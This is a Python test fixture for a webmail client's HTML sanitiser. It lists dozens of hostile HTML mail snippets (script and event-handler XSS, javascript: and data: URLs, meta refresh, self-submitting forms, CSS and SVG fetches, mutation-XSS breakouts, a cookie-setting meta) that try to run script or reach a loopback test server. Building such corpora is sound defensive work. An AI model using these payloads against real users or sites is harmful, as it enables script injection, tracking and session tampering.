"""A corpus of hostile HTML mail: each entry tries to run script (every script opens a
dialog), to reach `remote` (a loopback server that counts requests), to submit a form or
to navigate its frame. tests/browser/test_webmail.py sends each as the HTML part of a
message (inside `<html><body><p>Visible …</p>`, then the entry, then `</body></html>`)
and reads it in Chromium, where nothing may open a dialog or reach `remote`.

Every entry acts on its own when its page loads in a frame, in the Chromium the tests
use, if it is shown as it is (no cleaning, no sandbox, no policy): what needs a click
(links, `ping`, submit buttons) clicks itself from an autofocus handler, or comes with a
frame, object or refresh that loads the same kind of URL. (A refresh to `javascript:`
does nothing in Chromium; the one to `data:` next to it runs in a frame.) Vectors that
only old engines honour (`vbscript:`, `lowsrc`, `<isindex>`, `<applet>`, UTF-7,
`expression()`, `Set-Cookie` in a meta) come with a fallback that Chromium runs, as such
mail does. Mutation XSS entries break out of the element a sanitiser might think they are
in, and fire as the browser parses them.
"""

from __future__ import annotations

import base64


def hostile(remote: str) -> list[str]:
    """HTML that tries to run, to reach `remote`, or to leave the frame."""
    host = remote.split("://", 1)[1]  # 127.0.0.1:port, for scheme-relative URLs
    page = "<script>alert('data-b64')</script>"
    b64 = base64.b64encode(page.encode()).decode()
    return [
        # Script elements: inline, external, module, SVG's own, odd spellings, print().
        f"<script>alert('script');fetch('{remote}/script')</script>",
        f"<script src='{remote}/script.js'></script>"
        f"<script type=module>import '{remote}/module.js'</script>",
        "<ScRiPt/x>confirm('case')</sCrIpT><script\n>prompt('newline')</script>",
        f"<svg><script>alert('svg-script')</script><script href='{remote}/svg.js'/></svg>",
        f"<script>print();new Image().src='{remote}/print'</script>",
        # Event handlers that fire without a user: load and error, toggle, animation, focus.
        "<img src=x onerror=\"alert('onerror')\">",
        f"<body background='{remote}/body.png' onload=\"alert('body')\">b</body>",
        "<svg onload=\"alert('svg-onload')\"></svg>"
        "<details open ontoggle=\"alert('ontoggle')\"><summary>s</summary></details>",
        "<video src=x onerror=\"alert('video')\"></video>"
        "<audio><source src=x onerror=\"alert('source')\"></audio>",
        "<style>@keyframes k{from{color:red}to{color:blue}}</style>"
        "<p style='animation:k 10ms' onanimationstart=\"alert('animation')\">a</p>",
        "<input autofocus onfocus=\"alert('autofocus')\">",
        "<IMG SRC=x OnErRoR=\"alert('case')\"><img/src='x'/onerror=\"alert('slash')\">"
        "<img\x0csrc=x\x0conerror=\"alert('formfeed')\">",
        # SVG: animate and set (an event, or an href the sanitiser never saw),
        # foreignObject, xlink:href and href on image and feImage, style.
        "<svg><animate onbegin=\"alert('svg')\" attributeName=x dur=1s></animate></svg>",
        "<svg><set attributeName=x to=1 onbegin=\"alert('set')\"/></svg>",
        f"<svg><image width=9 height=9><set attributeName=href to='{remote}/set-href.png'/>"
        "</image><a><animate attributeName=href values=\"javascript:alert('anim-href')\"/>"
        "<text y=20>click</text></a></svg>",
        f"<svg><foreignObject width=99 height=99><img src='{remote}/foreign.png'"
        " onerror=\"alert('foreignObject')\"></foreignObject></svg>",
        f"<svg xmlns:xlink='http://www.w3.org/1999/xlink'><image width=9 height=9"
        f" xlink:href='{remote}/xlink.png'/><filter id=f><feImage href='{remote}/feimage.png'/>"
        "</filter><rect width=9 height=9 filter='url(#f)'/></svg>",
        f"<svg><style>@import url('{remote}/svg-style.css');</style></svg>",
        # javascript: URLs in links and in frames that load them: plain, mixed case with
        # leading controls, tabs and newlines in the scheme, character references.
        "<a href=\"javascript:alert('js')\">click</a>"
        "<iframe src=\"javascript:alert('js-frame')\"></iframe>",
        "<a href=\" \x01JaVaScRiPt:alert('case-link')\">c</a>"
        "<iframe src=\" \x01\x10JaVaScRiPt:alert('case-frame')\"></iframe>",
        "<a href=\"jav\tas\ncri\rpt:alert('tab-link')\">t</a>"
        "<iframe src=\"jav&#x09;as&#10;cri&Tab;pt&NewLine;:alert('tab-frame')\"></iframe>",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
        "alert('dec-link')\">d</a><iframe src=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;"
        "&#x69;&#x70;&#x74;&#x3A;alert('hex-frame')\"></iframe>",
        "<iframe src=\"&#0000106&#0000097vascript&colon;alert('padded')\"></iframe>"
        "<iframe src=\"javascript://%0aalert('comment-newline')\"></iframe>",
        # data: and vbscript: URLs: HTML and SVG documents in frames, objects and embeds.
        "<iframe src=\"data:text/html,<script>alert('data-frame')</script>\"></iframe>"
        "<a href=\"DaTa:text/html,<script>alert('data-link')</script>\">d</a>",
        f"<object data='data:text/html;base64,{b64}'></object>"
        "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'"
        " onload='alert(&quot;data-embed&quot;)'/>\">",
        "<img src=\"data:image/svg+xml,<svg onload=alert('dataurl')>\">"
        "<iframe src=\"&#100;ata:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'"
        " onload='alert(&quot;data-svg-frame&quot;)'/>\"></iframe>",
        "<a href=\"vbscript:MsgBox('vbs')\">v</a>"
        "<img src=\"VbScRiPt:MsgBox('vbs')\" onerror=\"alert('vbscript')\">",
        # Meta refresh: to the outside, to javascript: and to data: (refresh is navigation,
        # which no policy of the frame forbids: only the cleaning stops it).
        f'<meta http-equiv=refresh content="0;url={remote}/refresh">',
        f'<meta http-equiv="Refresh" content="0; URL=\'{remote}/refresh-quoted\'">',
        "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>alert('refresh-data')"
        '</script>"><meta http-equiv=refresh content="0;url=javascript:alert(\'refresh-js\')">',
        # base href: relative URLs after it go to the outside, with or without a scheme.
        f"<base href='{remote}/'><img src='base.png'>",
        f"<base href='//{host}/scheme-relative/'><link rel=stylesheet href=base.css>",
        # Forms: action, formaction on button and input, input type=image, isindex.
        f"<form action='{remote}/form' method=post><input name=q autofocus"
        ' onfocus="this.form.submit()"><button>go</button></form>',
        f"<form id=f action=/mail></form><button form=f formaction='{remote}/formaction'"
        ' autofocus onfocus="this.click()">go</button>',
        "<form><input type=submit formaction=\"javascript:alert('formaction-js')\""
        ' autofocus onfocus="this.click()"></form>',
        f"<form action='{remote}/image-form'><input type=image"
        f" src='{remote}/input-image.png' alt=go></form>",
        f"<isindex action='{remote}/isindex' prompt=Search autofocus tabindex=0"
        " onfocus=\"alert('isindex')\">",
        # CSS: url() in style attributes and sheets, @import, var(), image-set(),
        # @font-face, escapes and comments in names and values, other fetching properties.
        f"<div style=\"background:url('{remote}/bg.png')\">bg</div>",
        f"<style>@import url('{remote}/import.css');"
        f" body {{ background: url({remote}/b) }}</style>",
        f'<p style="--u:url({remote}/var.png);background-image:var(--u)">var</p>'
        f"<style>:root{{--i:url({remote}/var-root.png)}} i{{background:var(--i)}}</style><i>i</i>",
        f"<div style=\"background-image:image-set(url('{remote}/set-1x.png') 1x)\">s</div>"
        f"<div style=\"background-image:-webkit-image-set('{remote}/wk-1x.png' 1x)\">w</div>",
        f"<style>@font-face{{font-family:t;src:url({remote}/font.woff)}}p{{font-family:t}}</style>",
        f'<div style="backgr\\6f und:\\75 rl({remote}/escaped.png)">e</div>'
        f'<div style="BACKGROUND:/**/URL({remote}/comment.png)">c</div>'
        f'<div style="background:&#117;rl({remote}/entity.png)">r</div>',
        f"<ul><li style='list-style-image:url({remote}/list.png)'>l</li></ul>"
        f"<div style='border:9px solid;border-image:url({remote}/border.png) 30'>b</div>"
        f"<div style='-webkit-mask-image:url({remote}/mask.png)'>m</div>"
        f"<div style='mask-image:url({remote}/mask2.png)'>m</div>",
        f"<style>b::before{{content:url({remote}/content.png)}}</style><b>c</b>"
        f"<div style=\"width:expression(alert('expression'));behavior:url({remote}/b.htc);"
        f'-moz-binding:url({remote}/b.xml#x)">x</div>',
        # Frames, objects, embeds, applets: remote, srcdoc, nested srcdoc, fallback.
        f"<iframe src='{remote}/frame'></iframe><iframe src='//{host}/frame-relative'></iframe>",
        "<iframe srcdoc=\"<script>parent.alert('srcdoc')</script>\"></iframe>",
        "<iframe srcdoc=\"<iframe srcdoc='&lt;img src=x onerror=alert(&quot;nested&quot;)&gt;'>"
        '</iframe>"></iframe>',
        f"<object data='{remote}/object'></object><embed src='{remote}/embed'>",
        f"<applet code=Evil.class archive='{remote}/applet.jar'>"
        f"<img src='{remote}/applet-fallback.png'></applet>",
        # link rel: stylesheet, preload, prefetch, dns-prefetch, preconnect, modulepreload.
        f"<link rel=stylesheet href='{remote}/link.css'>",
        f"<link rel=preload as=image href='{remote}/preload.png'>"
        f"<link rel=dns-prefetch href='{remote}'><link rel=preconnect href='{remote}'>",
        f"<link rel=prefetch href='{remote}/prefetch'>"
        f"<link rel=modulepreload href='{remote}/modulepreload.js'>",
        # Images other ways: src, srcset, picture/source, <image>, poster, audio, track,
        # background attributes, lowsrc/dynsrc, a scheme written with references.
        f"<img src='{remote}/pixel.png'>",
        f"<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' srcset='{remote}/srcset.png 1x'>"
        f"<picture><source srcset='{remote}/picture.png'><img src=x alt=p></picture>",
        f"<video poster='{remote}/poster'><source src='{remote}/video'></video>"
        f"<audio src='{remote}/audio' preload=auto></audio>",
        f"<video src='{remote}/track-video' preload=auto><track default kind=captions"
        f" src='{remote}/track.vtt'></video><image src='{remote}/image-tag.png'>",
        f"<table background='{remote}/table.png'><tr><td background='{remote}/td.png'>t</td>"
        "</tr></table>",
        f"<img lowsrc='{remote}/lowsrc.png' dynsrc='{remote}/dynsrc.avi'"
        f" src='&#104;t&#x09;tp&#58;//{host}/entity-src.png'>",
        # MathML: text and HTML integration points, style in the MathML namespace.
        "<math><mtext><img src=x onerror=\"alert('mtext')\"></mtext></math>",
        f"<math><annotation-xml encoding='text/html'><img src='{remote}/annotation.png'>"
        "</annotation-xml></math>",
        "<math><style><img src=x onerror=\"alert('math-style')\"></style></math>",
        # Mutation XSS: raw-text and escapable raw-text elements ended inside an
        # attribute, style in SVG, </p> leaving SVG, foster parenting out of a table.
        "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\"></noscript>",
        "<textarea><img title=\"</textarea><img src=x onerror=alert('textarea')>\">",
        "<title><img title=\"</title><img src=x onerror=alert('title')>\"></title>",
        "<style><img title=\"</style><img src=x onerror=alert('style')>\"></style>",
        "<xmp><a title=\"</xmp><img src=x onerror=alert('xmp')>\"></xmp>"
        "<noembed><a title=\"</noembed><img src=x onerror=alert('noembed')>\"></noembed>",
        "<svg><style><img src=x onerror=\"alert('svg-style')\"></style></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert('svg-p')>\"></style></svg>",
        "<table><img src=x onerror=\"alert('foster')\"><tr><td>t</td></tr></table>",
        # Comments, CDATA, processing instructions, conditional comments.
        '<!--<img src="--><img src=x onerror="alert(\'comment\')">',
        "<!--><img src=x onerror=\"alert('abrupt')\">--><!--x--!><img src=x"
        " onerror=\"alert('bang')\">",
        "<![CDATA[><img src=x onerror=\"alert('cdata')\">]]>"
        '<? x="><img src=x onerror="alert(\'pi\')">" ?>',
        "<!--[if gte IE 4]><script>alert('conditional')</script><![endif]-->"
        "<![if !IE]><img src=x onerror=\"alert('downlevel')\"><![endif]>",
        # Unclosed tags: the document's own end closes them.
        "<img src=x onerror=\"alert('unclosed')\"",
        "<svg onload=alert('unclosed-svg')//",
        # <a ping>: a link that follows itself.
        f"<a href='{remote}/ping-target' ping='{remote}/ping' autofocus"
        ' onfocus="this.click()">offer</a>',
        # Character references in event handlers; a very long attribute; NUL bytes.
        '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#39;dec&#39;&#41;">'
        "<img src=x onerror=\"&#x61;lert&lpar;'named'&rpar;\">",
        f'<img title="{"A" * 100_000}" src=x onerror="alert(\'long\')">'
        f'<div style="background:url({remote}/{"a" * 20_000})">l</div>',
        "<scr\x00ipt>alert('nul-script')</scr\x00ipt><img src=x o\x00nerror=alert(1)>"
        '<img src="x\x00" onerror="alert(\'nul\')"><a href="java\x00script:alert(1)">n</a>',
        # Charsets: UTF-7 (old engines), ISO-2022-JP escapes that swallow a quote.
        "<meta charset=utf-7>+ADw-script+AD4-alert('utf7')+ADw-/script+AD4-"
        "<img src=x onerror=\"alert('utf7-fallback')\">",
        '<meta charset=iso-2022-jp><a title="\x1b$B"></a>\x1b(B'
        "<a title=\"><img src=x onerror=alert('iso-2022-jp')>\"></a>",
        # Meta http-equiv: a policy that would allow everything, a cookie.
        "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">"
        f"<img src='{remote}/meta-csp.png'><script>alert('meta-csp')</script>",
        "<meta http-equiv=Set-Cookie content='session=mallory; path=/'>"
        f"<meta http-equiv=refresh content='0;url={remote}/set-cookie'>",
    ]
